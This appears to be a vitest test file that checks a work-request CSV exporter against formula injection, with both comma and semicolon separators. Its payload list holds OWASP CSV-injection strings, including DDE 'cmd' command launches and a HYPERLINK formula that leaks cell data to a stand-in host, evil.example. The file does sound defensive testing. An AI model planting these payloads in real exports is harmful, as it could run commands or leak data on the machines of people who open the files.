/**
 * CSV injection (OWASP, "CSV Injection"): text people type — a requester's own name, asset and project names — is
 * exported in the work-request CSV. Read back the way spreadsheet programs read it, with `,` or with `;` as the list
 * separator (many European locales), no payload may start a cell with a formula character or leave its own cell.
 */
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/lib/csv';
import { CSV_COLUMNS, toCsv } from '../../src/features/work-requests/model/csv';
import { readCsv } from '../support/readCsv';

/** OWASP's CSV-injection payloads, and the one that passed the first guard (a `;` list separator splits the cell). */
const PAYLOADS = [
  "Priya;=cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'a,=1+1',
  'a;+1+1',
  'a";=1+1',
  'a\n=1+1',
  'a\r\n@SUM(A1)',
  '"=1+1',
  ';=1+1',
];

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports against formula injection', () => {
  it.each([',', ';'])(
    'read with "%s" as the list separator, no payload breaks out of its cell or starts a formula',
    (separator) => {
      const line = csvLine(['before', ...PAYLOADS, 'after']);
      const rows = readCsv(`${line}\r\n`, separator);
      // Out of step with the quotes, a `;` reader may split cells and lines anywhere; none of them may start a formula.
      for (const field of rows.flat()) expect(field, JSON.stringify(field)).not.toMatch(FORMULA_START);
      if (separator === ',') {
        // Read with the file's own separator, every cell is one cell: the text as written, guards aside.
        expect(rows).toHaveLength(1);
        const unguarded = (cells: string[]) => cells.map((c) => c.replaceAll("'", ''));
        expect(unguarded(rows[0]!)).toEqual(unguarded(['before', ...PAYLOADS, 'after']));
      }
    },
  );

  it("a requester's name cannot become a formula or another cell of the work-request list", () => {
    const csv = toCsv([{ _id: 'w3', from: { name: "Priya;=cmd|' /C calc'!A0" }, project: { name: '@SUM(1+1)' } }]);
    const [, row] = readCsv(csv);
    expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(row![CSV_COLUMNS.indexOf('requested by')]).toBe("Priya;'=cmd|' /C calc'!A0");
    expect(row![CSV_COLUMNS.indexOf('project')]).toBe("'@SUM(1+1)");
    for (const field of readCsv(csv, ';').flat()) expect(field).not.toMatch(FORMULA_START);
  });
});
